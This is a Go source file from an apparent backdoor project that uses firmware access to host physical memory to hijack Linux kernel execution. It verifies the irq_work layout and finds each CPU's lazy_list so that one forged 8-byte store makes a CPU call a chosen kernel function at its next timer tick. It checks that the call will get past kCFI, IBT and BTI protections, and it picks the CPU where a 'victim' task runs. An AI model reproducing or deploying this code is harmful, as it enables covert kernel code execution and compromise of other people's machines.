package heal

import (
	"bytes"
	"errors"
	"fmt"
	"math"
	"strings"
	"time"

	"github.com/backdoor-rhs/backdoor/agent/kernel"
	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
)

// Flags of irq_work.node.u_flags, include/linux/smp_types.h since v5.8. They are anonymous there; provenIRQWork checks them
// against an irq_work that the kernel has initialised itself.
const (
	irqWorkPending = 0x01
	irqWorkBusy    = 0x02
	irqWorkLazy    = 0x04
	irqWorkType    = 0x20
	irqWorkClaimed = irqWorkPending | irqWorkBusy
)

// irqWork is the layout of struct irq_work on a kernel, and where its lazy lists are.
//
// update_process_times calls irq_work_tick at each timer tick of each CPU, which takes everything off the CPU's lazy_list
// and calls func(work) of each in hard-interrupt context. So one store of 8 bytes into an empty list has a CPU run a
// function of its own kernel at its next tick, without any interrupt from outside.
type irqWork struct {
	size, next, flags, fn, wait uint64
}

func realTime(m model) bool { return strings.Contains(m.Info().Banner, "PREEMPT_RT") }

// tickOf says for people where a CPU's lazy works are run.
func tickOf(m model, cpu int) string {
	if realTime(m) {
		return fmt.Sprintf("thread irq_work/%d, which CPU %d's timer tick wakes", cpu, cpu)
	}
	return fmt.Sprintf("hard interrupt of CPU %d's timer tick (irq_work_tick)", cpu)
}

// provenIRQWork returns the layout, checked against wake_up_klogd_work, the kernel's own lazy irq_work.
func provenIRQWork(m model) (irqWork, error) {
	fail := func(format string, args ...any) (irqWork, error) {
		return irqWork{}, fmt.Errorf("irq_work: %s: %w", fmt.Sprintf(format, args...), kernel.ErrNotSupported)
	}
	if realTime(m) {
		if _, err := m.PerCPU("irq_workd", 0); err != nil {
			return fail("of a kernel for real time without irq_workd: %v", err)
		}
	}
	l := layout{m: m}
	w := irqWork{
		size:  l.sizeof("irq_work"),
		next:  l.field("irq_work", "node.llist.next", 8),
		flags: l.field("irq_work", "node.u_flags", 4),
		fn:    l.field("irq_work", "func", 8),
		wait:  l.field("irq_work", "irqwait.task", 8),
	}
	if l.field("llist_head", "first", 8) != 0 && l.err == nil {
		return fail("llist_head.first is not at its start")
	}
	klogd := l.symbol("wake_up_klogd_work_func")
	l.symbol("irq_work_tick")
	if l.err != nil {
		return irqWork{}, fmt.Errorf("irq_work: %w", l.err)
	}
	if w.next != 0 {
		return fail("llist_node is at %d, not at its start", w.next)
	}
	own, err := m.PerCPU("wake_up_klogd_work", 0)
	if err != nil {
		return irqWork{}, fmt.Errorf("irq_work: %w", err)
	}
	flags, err := read32(m, own+kernel.VirtAddr(w.flags))
	if err != nil {
		return irqWork{}, fmt.Errorf("irq_work: %w", err)
	}
	fn, err := read64(m, own+kernel.VirtAddr(w.fn))
	if err != nil {
		return irqWork{}, fmt.Errorf("irq_work: %w", err)
	}
	// The type is added when it is first claimed.
	if flags&^(irqWorkClaimed|irqWorkType) != irqWorkLazy || kernel.VirtAddr(fn) != klogd {
		return fail("the kernel's own wake_up_klogd_work has flags %#x and function %#x, not %#x and %v: the layout is another one",
			flags, fn, irqWorkLazy, klogd)
	}
	return w, nil
}

// lazyList returns where a CPU's list head is.
func lazyList(m model, cpu int) (kernel.VirtAddr, hostmem.PhysAddr, error) {
	va, err := m.PerCPU("lazy_list", cpu)
	if err != nil {
		return 0, 0, fmt.Errorf("lazy_list of CPU %d: %w", cpu, err)
	}
	if va%8 != 0 {
		return 0, 0, fmt.Errorf("lazy_list of CPU %d at %v is not aligned: %w", cpu, va, kernel.ErrNotSupported)
	}
	pa, err := m.Phys(va)
	if err != nil {
		return 0, 0, fmt.Errorf("lazy_list of CPU %d: %w", cpu, err)
	}
	return va, pa, nil
}

// First bytes of functions, x86-64.
var (
	endbr64   = []byte{0xf3, 0x0f, 0x1e, 0xfa}
	fentryNop = []byte{0x0f, 0x1f, 0x44, 0x00, 0x00} // where ftrace would put its call
	sealed    = []byte{0x66, 0x0f, 0x1f, 0x00}       // an endbr64 that was taken out at boot: not to be called by pointer
)

// saves tells whether a function begins with saving registers, as one does that ftrace does not know, its own above all.
func saves(head []byte) bool {
	return head[0]&0xf8 == 0x50 || head[0] == 0x41 && head[1]&0xf8 == 0x50 // push
}

// callable returns the address of a function and its first bytes if it may be called through a pointer on this kernel.
func callable(m model, name string) (kernel.VirtAddr, Bytes, error) {
	va, err := m.Symbol(name)
	if err != nil {
		return 0, nil, err
	}
	if _, err := m.Symbol("__cfi_" + name); !errors.Is(err, kernel.ErrNotFound) {
		return 0, nil, fmt.Errorf("%s has a kCFI prefix, so calls through foreign pointers trap: %w", name, kernel.ErrNotSupported)
	}
	head, err := callableAt(m, name, va)
	return va, head, err
}

// callableAt returns the first bytes of a function at an address if they are those of one that may be called through a pointer on this kernel.
func callableAt(m model, name string, va kernel.VirtAddr) (Bytes, error) {
	head := make(Bytes, 8)
	err := m.ReadVirt(va, head)
	if err != nil {
		return nil, fmt.Errorf("first bytes of %s: %w", name, err)
	}
	if m.Info().Arch == archAArch64 {
		return head, callableAArch64(m, name, head)
	}
	_, ibtErr := m.Symbol("ibt_restore") // only where the kernel is built with CONFIG_X86_KERNEL_IBT
	switch {
	case bytes.HasPrefix(head, endbr64):
	case bytes.HasPrefix(head, sealed) && ibtOff(m): // nothing but a nop there
	case bytes.HasPrefix(head, sealed):
		err = fmt.Errorf("%s is sealed against calls by pointer: %w", name, kernel.ErrNotSupported)
	case errors.Is(ibtErr, kernel.ErrNotFound) && (bytes.HasPrefix(head, fentryNop) || saves(head)):
	default:
		err = fmt.Errorf("%s begins with %x, which is neither endbr64 nor, on a kernel without IBT, the entry of a function that nobody has patched: %w", name, []byte(head), kernel.ErrNotSupported)
	}
	return head, err
}

// First instructions of functions, AArch64. The first three are landing pads of branch target identification, as signing the return address is one.
var (
	btiC, btiJC, paciasp = []byte{0x5f, 0x24, 0x03, 0xd5}, []byte{0xdf, 0x24, 0x03, 0xd5}, []byte{0x3f, 0x23, 0x03, 0xd5}
	movX9X30, nopA64     = []byte{0xe9, 0x03, 0x1e, 0xaa}, []byte{0x1f, 0x20, 0x03, 0xd5} // where ftrace would put its call (arch/arm64/kernel/ftrace.c)
)

// callableAArch64 judges the first instruction of a function. Where the kernel's code is guarded (CONFIG_ARM64_BTI_KERNEL), every function that is called
// by pointer begins with a landing pad; so where wake_up_klogd_work_func, which the kernel itself calls by such a pointer, does not, none must.
func callableAArch64(m model, name string, head Bytes) error {
	pad := func(b []byte) bool {
		return bytes.HasPrefix(b, btiC) || bytes.HasPrefix(b, btiJC) || bytes.HasPrefix(b, paciasp)
	}
	if pad(head) {
		return nil
	}
	if !bytes.HasPrefix(head, movX9X30) && !bytes.HasPrefix(head, nopA64) {
		return fmt.Errorf("%s begins with %x, which is neither a landing pad nor the untraced entry of a function: %w", name, []byte(head), kernel.ErrNotSupported)
	}
	va, err := m.Symbol("wake_up_klogd_work_func")
	if err != nil {
		return err
	}
	own := make([]byte, 4)
	if err := m.ReadVirt(va, own); err != nil {
		return fmt.Errorf("first bytes of wake_up_klogd_work_func: %w", err)
	}
	if pad(own) {
		return fmt.Errorf("%s has no landing pad, and the kernel's own functions have: %w", name, kernel.ErrNotSupported)
	}
	return nil
}

// ibtOff reports whether the host's CPUs surely do not enforce indirect branch tracking: the kernel has found, or was told,
// that they cannot. X86_FEATURE_IBT is bit 20 of word 18, arch/x86/include/asm/cpufeatures.h since v5.18.
func ibtOff(m model) bool {
	const word, bit = 18, 20
	va, err := m.Symbol("boot_cpu_data")
	if err != nil {
		return false
	}
	f, err := m.Field("cpuinfo_x86", "x86_capability")
	if err != nil || f.Size < 4*(word+1) {
		return false
	}
	caps, err := read32(m, va+kernel.VirtAddr(f.Offset+4*word))
	return err == nil && caps>>bit&1 == 0
}

// soonestTick chooses the CPU whose timer tick is to carry out a call, as pickCPU says, and returns where its list head is.
func soonestTick(m model, victim *kernel.Task) (cpu kernel.CPU, listVA kernel.VirtAddr, listPA hostmem.PhysAddr, err error) {
	before, err := m.Heartbeat()
	if err != nil {
		return cpu, 0, 0, fmt.Errorf("choose a CPU: %w", err)
	}
	if cpu, err = pickCPU(m, before, victim); err != nil {
		return cpu, 0, 0, err
	}
	listVA, listPA, err = lazyList(m, cpu.ID)
	return cpu, listVA, listPA, err
}

// pickCPU chooses the CPU that will tick soonest: the one on which the victim runs, for that one is surely busy; else any
// other that is busy; else the idle one with the nearest timer event; for real time, first an idle one. A CPU that is busy but does not tick within the time of
// a few ticks is not asked: its interrupts are off.
func pickCPU(m model, before kernel.Heartbeat, victim *kernel.Task) (kernel.CPU, error) {
	time.Sleep(tickPatience)
	hb, err := m.Heartbeat()
	if err != nil {
		return kernel.CPU{}, err
	}
	if len(hb.CPUs) != len(before.CPUs) {
		return kernel.CPU{}, fmt.Errorf("number of CPUs changed: %w", kernel.ErrTorn)
	}
	best, at := int64(math.MaxInt64), -1
	for i, c := range hb.CPUs {
		rank := c.NextEvent
		switch {
		case !c.Online:
			continue
		case !c.Idle && c.TimerIRQs == before.CPUs[i].TimerIRQs:
			continue
		case !c.Idle && realTime(m): // what runs there may have precedence over the thread
			rank = math.MaxInt64 - 2
		case !c.Idle && victim != nil && c.CurrPID == victim.PID:
			rank = -2
		case !c.Idle:
			rank = -1
		case c.NextEvent <= 0 || c.NextEvent == math.MaxInt64:
			rank = math.MaxInt64 - 1
		}
		if rank < best {
			best, at = rank, i
		}
	}
	if at < 0 {
		return kernel.CPU{}, fmt.Errorf("no CPU of the host ticks: %w", kernel.ErrNotFound)
	}
	return hb.CPUs[at], nil
}

// tickPatience is five ticks at the slowest usual rate of servers, HZ=250.
const tickPatience = 20 * time.Millisecond

const (
	// lateTick is how late a CPU may be with a tick that is due: a virtual one waits for a real one, too.
	lateTick = 500 * time.Millisecond
	// longestIdle is how long an idle CPU sleeps at most: the watchdog's period.
	longestIdle = 4 * time.Second
	// hardirqMask are the bits of a preempt count that say that the CPU is in a hard interrupt, include/linux/preempt.h.
	hardirqMask = 0xf << 16
)

// provenTick chooses a CPU that has ticked just now, while the clock of ticks went on, and returns where its list head is. Unlike soonestTick, it
// takes no idle CPU at its word: one that was locked while it idled, in an interrupt say, still looks idle, and where the clock stands there are
// interrupts of timers and no ticks. It waits for idle CPUs as long as they may sleep, and for others no longer than a tick may be late.
func provenTick(m model) (cpu kernel.CPU, listVA kernel.VirtAddr, listPA hostmem.PhysAddr, err error) {
	fail := func(err error) (kernel.CPU, kernel.VirtAddr, hostmem.PhysAddr, error) {
		return kernel.CPU{}, 0, 0, fmt.Errorf("choose a CPU: %w", err)
	}
	before, err := m.Heartbeat()
	if err != nil {
		return fail(err)
	}
	wait := lateTick
	for _, c := range before.CPUs {
		if c.Online && c.Idle && c.Preempt&hardirqMask == 0 {
			sleeps := min(max(c.NextEvent-before.Mono, 0), int64(longestIdle))
			wait = max(wait, time.Duration(sleeps)+lateTick)
		}
	}
	for end := time.Now().Add(wait); ; {
		time.Sleep(tickPatience)
		now, err := m.Heartbeat()
		if err != nil {
			return fail(err)
		}
		if len(now.CPUs) != len(before.CPUs) {
			return fail(fmt.Errorf("number of CPUs changed: %w", kernel.ErrTorn))
		}
		best, at := int64(math.MaxInt64), -1
		for i, c := range now.CPUs {
			rank := max(c.NextEvent, 0)
			if !c.Idle {
				rank = -1
			}
			if c.Online && c.TimerIRQs != before.CPUs[i].TimerIRQs && now.Jiffies != before.Jiffies && rank < best {
				best, at = rank, i
			}
		}
		if at >= 0 {
			listVA, listPA, err := lazyList(m, now.CPUs[at].ID)
			return now.CPUs[at], listVA, listPA, err
		}
		if time.Now().After(end) {
			return fail(fmt.Errorf("no CPU of the host has ticked for %v: %w", wait, kernel.ErrNotFound))
		}
	}
}
